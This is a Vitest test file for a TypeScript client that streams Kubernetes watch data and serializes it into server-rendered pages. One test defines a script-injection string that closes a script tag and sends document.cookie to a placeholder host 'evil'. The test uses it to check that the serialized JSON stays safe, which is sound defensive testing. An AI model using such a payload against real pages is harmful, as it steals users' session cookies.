// @vitest-environment happy-dom
import { expect, test, vi } from 'vitest';
import { frame, ScriptedFetch } from '../../mock/fetch.ts';
import { eachPage } from '../../mock/page.ts';
import { counts } from './counts.ts';
import { dehydrate, hydrate, type Dehydrated } from './hydrate.ts';
import { createKubecast, type Kubecast } from './kubecast.ts';
import { logs } from './logs.ts';
import type { KubeObject } from './object.ts';
import { page } from './page.ts';
import { ready, snapshots } from './ready.ts';
import { defineResource } from './resource.ts';

const jobs = defineResource<KubeObject>()({ group: 'batch', version: 'v1', plural: 'jobs' });
const pods = defineResource<KubeObject & { readonly status?: { readonly phase?: string } }>()({ version: 'v1', plural: 'pods' });
const newest = page(jobs, { limit: 1 });
const phases = counts(pods, ['status.phase']);

/** What has rendered the page. */
let server: ScriptedFetch;
let rendering: Kubecast;
eachPage((made) => ({ server, kc: rendering } = made));

const pass = (ms = 0): Promise<unknown> => vi.advanceTimersByTimeAsync(ms);
const object = (uid: string): object => ({ metadata: { name: uid, uid } });
const nobody = (): void => undefined;

/** As it comes out of the page's text. */
async function rendered(): Promise<Dehydrated> {
  const all = Promise.all([ready(rendering.watch(jobs)), ready(rendering.follow(newest)), ready(rendering.follow(phases))]);
  rendering.watch(pods).subscribe(nobody); // which is not there in time
  await pass();
  server.last.accept(
    frame('w0.narrowed', 'e', { namespaces: ['team-a'] }),
    frame('w0.added', 'e', object('a')),
    frame('w0.added', 'e', object('b')),
    frame('w0.synced', 'e.w0-7', { resourceVersion: '7', count: 2 }),
    frame('w1.added', 'e.w0-7', object('b')),
    frame('w1.page', 'e.w0-7.w1-7', { uids: ['b'], offset: 0, total: 2, resourceVersion: '7' }),
    frame('w2.counts', 'e.w0-7.w1-7.w2-7', { counts: [{ value: 'Running', count: 3 }], resourceVersion: '7' }),
    frame('w3.added', 'e.w0-7.w1-7.w2-7', object('p')),
  );
  await pass();
  await all;
  const state = dehydrate(rendering);
  rendering.close();
  return JSON.parse(JSON.stringify(state)) as Dehydrated;
}

test('the browser goes on from the position, and is told what happened since: no snapshot comes', async () => {
  const state = await rendered();
  const then = Date.now();
  await pass(3_000);
  const gateway = new ScriptedFetch();
  const kc = createKubecast({ token: () => 't', fetch: gateway.fetch });
  hydrate(kc, state);
  const watch = kc.watch(jobs);
  const [top, states] = [kc.follow(newest), kc.follow(phases)];
  const statuses: string[] = [];
  // What the server rendered is what the browser begins with, and it says as of when that is.
  expect(watch.getServerSnapshot()).toMatchObject({ status: 'stale', reason: 'reconnecting', asOf: then, namespaces: ['team-a'], data: [object('a'), object('b')] });
  expect(watch.getSnapshot()).toBe(watch.getServerSnapshot());
  expect(top.getSnapshot()).toMatchObject({ total: 2, data: [object('b')] });
  expect(states.getSnapshot()).toMatchObject({ data: [{ value: 'Running', count: 3 }] });
  for (const one of [watch, top, states]) one.subscribe(() => statuses.push(one.getSnapshot().status));
  kc.watch(pods).subscribe(nobody); // of which nothing was given
  await pass();
  expect(gateway.last.headers.get('Last-Event-ID')).toBe('e.w0-7.w1-7.w2-7');
  const asked = new URL(gateway.last.url, 'http://gateway').searchParams;
  expect([asked.get('w0'), asked.get('w1'), asked.get('w2'), asked.get('w3')]).toEqual(['/apis/batch/v1/jobs', newest.path, phases.path, null]);
  expect(asked.get('w4')).toBe('/api/v1/pods');
  const body = gateway.last.accept(frame('w0.narrowed', 'e.w0-7.w1-7.w2-7', { namespaces: ['team-a'] }) + frame('w0.deleted', 'e.w0-8.w1-7.w2-7', object('a')));
  await pass();
  expect(watch.getSnapshot()).toMatchObject({ status: 'stale', reason: 'catching-up', asOf: then, data: [object('b')] });
  body.push(frame('w0.bookmark', 'e.w0-8.w1-7.w2-7', { resourceVersion: '8' }));
  await pass();
  expect(watch.getSnapshot()).toMatchObject({ status: 'live', asOf: undefined, data: [object('b')] });
  expect(watch.getServerSnapshot().data).toHaveLength(2); // for parts that come to life later
  expect(kc.watch(pods).getSnapshot().status).toBe('loading');
  body.push(
    frame('w1.modified', 'e.w0-8.w1-9.w2-7', { metadata: { name: 'b', uid: 'b', resourceVersion: '9' } }) + frame('w1.bookmark', 'e.w0-8.w1-9.w2-7', { resourceVersion: '9' }),
  );
  await pass();
  expect(top.getSnapshot()).toMatchObject({ status: 'live', data: [{ metadata: { resourceVersion: '9' } }] });
  expect(statuses).not.toContain('loading');
  kc.close();
});

test('a server renders what it has given on, and a position that is too old is a snapshot under the old rows', async () => {
  const state = await rendered();
  expect(rendering.watch(jobs).getServerSnapshot()).toMatchObject({ status: 'stale', reason: 'reconnecting', data: [object('a'), object('b')] });
  const gateway = new ScriptedFetch();
  const kc = createKubecast({ token: () => 't', fetch: gateway.fetch });
  hydrate(kc, state);
  await pass(); // nobody looks yet
  gateway.last.accept(frame('w0.reset', 'e', { reason: 'expired' }), frame('w0.added', 'e', object('c')));
  await pass();
  const watch = kc.watch(jobs);
  watch.subscribe(nobody);
  expect(watch.getSnapshot()).toMatchObject({ status: 'stale', reason: 'catching-up', data: [object('a'), object('b'), object('c')] });
  expect(() => hydrate(kc, state)).toThrow('watched already');
  kc.close();
});

// Whoever may annotate a job that others are shown must not be able to end the element in which the page has it.
test('what a server knows, written into a page as JSON, ends no script element', async () => {
  const evil = '</script><script>fetch("//evil/"+document.cookie)</script><!--<script>\u2028\u2029';
  const is = ready(rendering.watch(jobs));
  await pass();
  const told = { metadata: { name: 'a', uid: 'a', annotations: { note: evil, [evil]: 'a key' } } };
  server.last.accept(frame('w0.added', 'e', told), frame('w0.synced', 'e.w0-7', { resourceVersion: '7', count: 1 }));
  await pass();
  await is;
  const text = JSON.stringify({ state: dehydrate(rendering) });
  rendering.close();
  expect(text).not.toMatch(/[<\u2028\u2029]/);
  const kc = createKubecast({ token: () => 't', fetch: new ScriptedFetch().fetch });
  hydrate(kc, (JSON.parse(text) as { state: Dehydrated }).state);
  expect(kc.watch(jobs).getServerSnapshot().data).toEqual([told]);
  kc.close();
});

// Subscribers may be told later than what happened is known; the position is not held back for them.
test('what is given is what was known at the position that is given with it, however seldom subscribers are told', async () => {
  const gateway = new ScriptedFetch();
  const kc = createKubecast({ token: () => 't', fetch: gateway.fetch, schedule: (flush) => setTimeout(flush, 1_000) });
  const all = Promise.all([ready(kc.watch(jobs)), ready(kc.follow(phases))]);
  await pass();
  const body = gateway.last.accept(
    frame('w0.added', 'e', object('a')) + frame('w0.synced', 'e.w0-1', { resourceVersion: '1', count: 1 }),
    frame('w1.counts', 'e.w0-1.w1-1', { counts: [{ value: 'Running', count: 3 }], resourceVersion: '1' }),
  );
  await pass(1_000);
  await all;
  body.push(
    frame('w0.modified', 'e.w0-2.w1-1', { metadata: { name: 'a', uid: 'a', resourceVersion: '2' } }) +
      frame('w1.counts', 'e.w0-2.w1-2', { counts: [{ value: 'Running', count: 4 }], resourceVersion: '2' }),
  );
  await pass();
  const { lastEventId, watches } = dehydrate(kc);
  kc.close();
  expect(lastEventId).toBe('e.w0-2.w1-2');
  expect(watches['/apis/batch/v1/jobs']?.events[0]).toMatchObject({ object: { metadata: { resourceVersion: '2' } } });
  expect(watches[phases.path]?.events[0]).toMatchObject({ data: expect.stringContaining('"count":4') as string });
});

test('who waits for a watch is told why there will be none', async () => {
  const waiting = ready(rendering.watch(jobs));
  const told = expect(waiting).rejects.toThrow('HTTP 403');
  await pass();
  server.last.refuse(403);
  await pass();
  server.last.refuse(403);
  await told;
  const stop = new AbortController();
  const stopped = expect(ready(rendering.watch(pods), stop.signal)).rejects.toThrow('enough');
  stop.abort(new Error('enough'));
  await stopped;
});

test('who takes their time sees the newest only, and leaving the loop leaves the watch', async () => {
  const seen: string[] = [];
  const reading = (async () => {
    for await (const { data, status } of snapshots(rendering.watch(jobs))) {
      seen.push(`${status} ${data.length}`);
      await new Promise((resolve) => setTimeout(resolve, 100));
      if (data.length === 3) return;
    }
  })();
  await pass();
  const body = server.last.accept(frame('w0.added', 'e', object('a')) + frame('w0.synced', 'e.w0-1', { resourceVersion: '1', count: 1 }));
  await pass(150);
  body.push(frame('w0.added', 'e.w0-2', object('b')));
  await pass(10);
  body.push(frame('w0.added', 'e.w0-3', object('c')));
  await pass(300);
  await reading;
  expect(seen).toEqual(['loading 0', 'live 1', 'live 3']);
  await pass(5_000);
  expect(server.last.aborted).toBe(true);
});

test('who follows what fails is shown that, and thrown why; what is denied goes on, and comes back; closing is no failure', async () => {
  const follow = async (watch: ReturnType<typeof rendering.watch>): Promise<string> => {
    const seen: string[] = [];
    try {
      for await (const { status } of snapshots(watch)) seen.push(status);
      return `${seen.join()} and ended`;
    } catch (error) {
      return `${seen.join()} and threw ${(error as Error).message}, ${((error as Error).cause as { reason: string }).reason}`;
    }
  };
  const [gone, forbidden] = [follow(rendering.watch(jobs)), follow(rendering.watch(pods))];
  await pass();
  server.last.refuse(403);
  await pass();
  for (const [n, request] of server.requests.slice(-2).entries()) request.refuse(n === 0 ? 404 : 403);
  await pass();
  for (const [n, request] of server.requests.slice(-2).entries()) request.refuse(n === 0 ? 404 : 403, {}, JSON.stringify({ message: `no: ${n}` }));
  await pass();
  expect(await gone).toBe('loading,failed and threw no: 0, http:404');
  rendering.wake(); // it is allowed by now
  await pass();
  server.last.accept();
  await pass();
  server.last.accept(frame('w1.synced', 'e.w1-1', { resourceVersion: '1', count: 0 }));
  await pass();
  rendering.close();
  expect(await forbidden).toBe('loading,denied,loading,live,failed and ended');
});

test('who has aborted when something fails is not thrown at', async () => {
  const abort = new AbortController();
  const following = (async () => {
    for await (const { status } of snapshots(rendering.watch(jobs), abort.signal)) if (status === 'failed') abort.abort();
  })();
  await pass();
  server.last.refuse(404);
  await pass();
  server.last.refuse(404);
  await pass();
  await expect(following).resolves.toBeUndefined();
});

test('what was empty is still what it was: counts of nothing, a log without lines', async () => {
  const log = logs(pods, { namespace: 'team-a', name: 'p' });
  const all = Promise.all([ready(rendering.follow(phases)), ready(rendering.watch(jobs))]);
  rendering.follow(log).subscribe(nobody);
  await pass();
  server.last.accept(
    frame('w0.counts', 'e.w0-7', { counts: [], resourceVersion: '7' }),
    frame('w1.synced', 'e.w0-7.w1-7', { resourceVersion: '7', count: 0 }),
    frame('w2.synced', 'e.w0-7.w1-7.w2-7', {}),
  );
  await pass();
  await all;
  const state = JSON.parse(JSON.stringify(dehydrate(rendering))) as Dehydrated;
  expect(Object.keys(state.watches)).toEqual([phases.path, '/apis/batch/v1/jobs']);

  const gateway = new ScriptedFetch();
  const kc = createKubecast({ token: () => 't', fetch: gateway.fetch });
  hydrate(kc, state);
  const states = kc.follow(phases);
  states.subscribe(nobody);
  await pass();
  gateway.last.accept(
    frame('w0.counts', 'e.w0-9.w1-7', { counts: [{ value: 'Running', count: 3 }], resourceVersion: '9' }),
    frame('w0.bookmark', 'e.w0-9.w1-7', { resourceVersion: '9' }),
  );
  await pass();
  expect(states.getSnapshot()).toMatchObject({ status: 'live', data: [{ value: 'Running', count: 3 }] });
  kc.close();
});
